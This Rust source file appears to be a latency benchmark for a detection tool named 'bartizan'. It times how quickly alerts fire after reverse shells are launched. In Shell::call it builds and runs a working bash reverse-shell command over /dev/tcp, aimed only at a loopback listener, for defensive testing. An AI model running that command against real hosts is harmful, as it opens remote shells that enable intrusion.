//! From the kernel to an alert: reverse shells on loopback, one after the other.

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Read};
use std::net::{Ipv4Addr, TcpListener};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::{Receiver, RecvTimeoutError, channel};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use nix::time::{ClockId, clock_gettime};
use serde_json::Value;

use super::observer::Observer;
use crate::command;

/// Longest wait for one alert. It ends a hang; an alert that takes so long is a failure and no measurement.
const LONGEST: Duration = Duration::from_secs(30);

/// How long alerts took, from the kernel's stamp of the shell's exec.
#[derive(Debug, Clone, Default)]
pub(super) struct Latencies {
    /// Until the alert's record was in the file of ALERTS.
    pub(super) stored: Vec<Duration>,
    /// Until `bartizan run` told the stored alert on its standard output.
    pub(super) told: Vec<Duration>,
    /// Until a reader that follows ALERTS (`bartizan alerts --follow`) had it.
    pub(super) followed: Vec<Duration>,
}

/// Raises `count` alerts, each after the one before was seen by both readers.
///
/// # Errors
/// A shell does not call, or its alert does not come.
pub(super) fn measure(sensor: &mut Observer, count: u64) -> Result<Latencies> {
    let bash = command::find_program("bash").context("bash is not on this machine: run `apt-get install bash`")?;
    let told = sensor.told()?;
    let mut follow = sensor.verb("alerts");
    follow.args(["--follow", "--json"]).stdout(Stdio::piped()).stderr(Stdio::null());
    let mut follower = Ended(follow.spawn().context("bartizan alerts could not be started")?);
    let followed = read_lines(follower.0.stdout.take().context("stdout is piped")?);
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).context("no listener on 127.0.0.1")?;
    let port = listener.local_addr().context("a listener has no address")?.port();

    let grown = Growth::watch(sensor.stream("ALERTS"));
    let mut seen = Vec::new();
    for index in 0..count {
        std::thread::sleep(pause(index));
        let shell = Shell::call(&bash, &listener, port)?;
        let first = shell.process.0.id();
        // The pid that the alert names is that of the inner bash, a child of the one that was started.
        let at_told = wait(&told, |line| line.contains(&format!("bash({first}) > bash(")).then_some(()))?.0;
        let (at_followed, pid) = wait(&followed, |line| shell_of(line, first))?;
        seen.push((pid, at_told, at_followed));
    }
    drop(follower);
    let grown = grown.end();
    let execs = execs(sensor)?;
    let mut latencies = Latencies::default();
    for (pid, told, followed) in seen {
        let exec = execs.get(&pid).with_context(|| format!("EVENTS has no exec of the shell {pid} that was alerted"))?;
        // Only this alert's, unless somebody else's shell was alerted in the same milliseconds.
        let stored = grown.iter().find(|at| (*exec..=told).contains(*at));
        latencies.stored.extend(stored.map(|at| at.saturating_sub(*exec)));
        latencies.told.push(told.saturating_sub(*exec));
        latencies.followed.push(followed.saturating_sub(*exec));
    }
    Ok(latencies)
}

/// Before an alert: whatever has a period of its own (timers, heartbeats, a retry) must not meet every shell at the same point of it.
/// Multiples of the golden ratio fall evenly into the 100 ms.
fn pause(index: u64) -> Duration {
    Duration::from_micros(index.wrapping_mul(61_803) % 100_000)
}

/// Watches the files of a stream grow.
#[derive(Debug)]
struct Growth {
    stop: Arc<AtomicBool>,
    thread: JoinHandle<Vec<Duration>>,
}

impl Growth {
    /// Between two looks: short against what is measured, long against a look.
    const LOOK: Duration = Duration::from_micros(100);

    fn watch(folder: PathBuf) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        let thread = std::thread::spawn(move || {
            let (mut times, mut before) = (Vec::new(), size(&folder));
            while !stopped.load(Ordering::Relaxed) {
                let now = size(&folder);
                if now > before
                    && let Ok(at) = clock_gettime(ClockId::CLOCK_BOOTTIME)
                {
                    times.push(Duration::from(at));
                }
                before = now;
                std::thread::sleep(Self::LOOK);
            }
            times
        });
        Self { stop, thread }
    }

    /// The boot-clock times at which it had grown.
    fn end(self) -> Vec<Duration> {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.join().unwrap_or_default()
    }
}

/// Bytes of all files of a folder.
fn size(folder: &Path) -> u64 {
    let entries = std::fs::read_dir(folder).into_iter().flatten();
    entries.filter_map(|entry| Some(entry.ok()?.metadata().ok()?.len())).sum()
}

/// Waits for the line that `is_it` wants. Other alerts of the machine are passed over.
fn wait<T>(lines: &Receiver<(Duration, String)>, is_it: impl Fn(&str) -> Option<T>) -> Result<(Duration, T)> {
    let until = Instant::now() + LONGEST;
    loop {
        match lines.recv_timeout(until.saturating_duration_since(Instant::now())) {
            Ok((at, line)) => {
                if let Some(found) = is_it(&line) {
                    return Ok((at, found));
                }
            }
            Err(RecvTimeoutError::Timeout) => bail!("no alert of the shell came within {} s", LONGEST.as_secs()),
            Err(RecvTimeoutError::Disconnected) => bail!("the reader of alerts ended: see `bartizan alerts`"),
        }
    }
}

/// The pid of the alerted shell, if the alert is about a child of `first`.
fn shell_of(line: &str, first: u32) -> Option<u32> {
    let alert: Value = serde_json::from_str(line).ok()?;
    let lineage = alert["lineage"].as_array()?;
    let parent = lineage.get(1)?["pid"].as_u64()?;
    (parent == u64::from(first)).then(|| lineage.first()?["pid"].as_u64()?.try_into().ok())?
}

/// The boot-clock time of the exec of each interactive bash, by pid.
fn execs(sensor: &Observer) -> Result<BTreeMap<u32, Duration>> {
    let mut events = sensor.verb("events");
    events.args(["--json", "--kind", "process.exec"]);
    let text = command::capture(&mut events, "read its message")?;
    let read = |line: &str| -> Option<(u32, Duration)> {
        let event: Value = serde_json::from_str(line).ok()?;
        let interactive = event["process"]["argv"].as_array()?.iter().any(|argument| argument == "-i");
        let pid = event["process"]["pid"].as_u64()?.try_into().ok()?;
        interactive.then_some((pid, Duration::from_nanos(event["boot_ns"].as_u64()?)))
    };
    // Of a pid that was used twice the last exec counts; the alert was about that one, for nobody runs so many processes meanwhile.
    Ok(text.lines().filter_map(read).collect())
}

/// Hands out lines as they come, each with the boot-clock time at which it was read. The thread ends with the writer.
pub(super) fn read_lines(from: impl Read + Send + 'static) -> Receiver<(Duration, String)> {
    let (sender, receiver) = channel();
    std::thread::spawn(move || {
        for line in BufReader::new(from).lines().map_while(Result::ok) {
            let Ok(now) = clock_gettime(ClockId::CLOCK_BOOTTIME) else { break };
            if sender.send((Duration::from(now), line)).is_err() {
                break;
            }
        }
    });
    receiver
}

/// A child that is killed when its owner goes.
#[derive(Debug)]
struct Ended(Child);

impl Drop for Ended {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A bash under the control of our end of a connection. Nothing is ever said to it; when the connection goes it ends by itself.
#[derive(Debug)]
struct Shell {
    /// Closed first, so that the inner bash reads the end of its input.
    _line: std::net::TcpStream,
    process: Ended,
}

impl Shell {
    fn call(bash: &PathBuf, listener: &TcpListener, port: u16) -> Result<Self> {
        let mut command = Command::new(bash);
        command.env_clear().args(["--norc", "-c", &format!("bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1; true")]);
        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        let mut process = Ended(command.spawn().context("bash could not be started")?);
        listener.set_nonblocking(true).context("a listener cannot be set up")?;
        let began = Instant::now();
        loop {
            match listener.accept() {
                Ok((line, _)) => return Ok(Self { _line: line, process }),
                Err(error) if error.kind() != std::io::ErrorKind::WouldBlock => return Err(error).context("a call cannot be taken"),
                Err(_) => {}
            }
            if let Some(status) = process.0.try_wait().context("bash cannot be waited for")? {
                bail!("bash ended ({status}) without a call: it was built without /dev/tcp");
            }
            if began.elapsed() > LONGEST {
                bail!("bash did not call within {} s", LONGEST.as_secs());
            }
            std::thread::sleep(Duration::from_millis(1));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_alert_about_our_own_shell_is_taken() {
        let alert = |pid: u64, parent: u64| serde_json::json!({"lineage": [{"pid": pid}, {"pid": parent}, {"pid": 1}]}).to_string();
        assert_eq!(shell_of(&alert(30, 20), 20), Some(30));
        assert_eq!(shell_of(&alert(30, 21), 20), None);
        assert_eq!(shell_of("{\"lineage\": []}", 20), None);
        assert_eq!(shell_of("no json", 20), None);
    }

    #[test]
    fn lines_carry_the_time_of_their_reading() -> Result<()> {
        let lines: Vec<(Duration, String)> = read_lines(&b"one\ntwo\n"[..]).iter().collect();
        let now = Duration::from(clock_gettime(ClockId::CLOCK_BOOTTIME)?);
        assert_eq!(lines.iter().map(|(_, line)| line.as_str()).collect::<Vec<_>>(), ["one", "two"]);
        assert!(lines.iter().all(|(at, _)| *at <= now && *at > Duration::ZERO));
        Ok(())
    }

    #[test]
    fn growth_is_seen_with_its_time() -> Result<()> {
        let folder = tempfile::tempdir()?;
        let file = folder.path().join("1.seg");
        std::fs::write(&file, "head")?;
        let growth = Growth::watch(folder.path().to_owned());
        // Seen or not yet watched: the thread may begin late, so it is written until it must have been seen.
        for length in 5..200 {
            std::fs::write(&file, "x".repeat(length))?;
            std::thread::sleep(Duration::from_millis(1));
        }
        let now = Duration::from(clock_gettime(ClockId::CLOCK_BOOTTIME)?);
        let times = growth.end();
        assert!(!times.is_empty() && times.is_sorted() && times.iter().all(|at| *at <= now + Duration::from_secs(1)), "{times:?}");
        Ok(())
    }

    #[test]
    fn pauses_fall_evenly_into_the_readers_period() {
        let mut tenths = [0; 10];
        (0..200).for_each(|index| tenths[(pause(index).as_millis() / 10) as usize] += 1);
        assert!(tenths.iter().all(|count| (15..=25).contains(count)), "{tenths:?}");
    }

    #[test]
    fn an_alert_is_waited_for_among_others() -> Result<()> {
        let lines = read_lines(&b"a\nb\nc\n"[..]);
        assert_eq!(wait(&lines, |line| (line == "b").then_some(7))?.1, 7);
        assert!(wait(&lines, |line| (line == "b").then_some(7)).is_err());
        Ok(())
    }
}
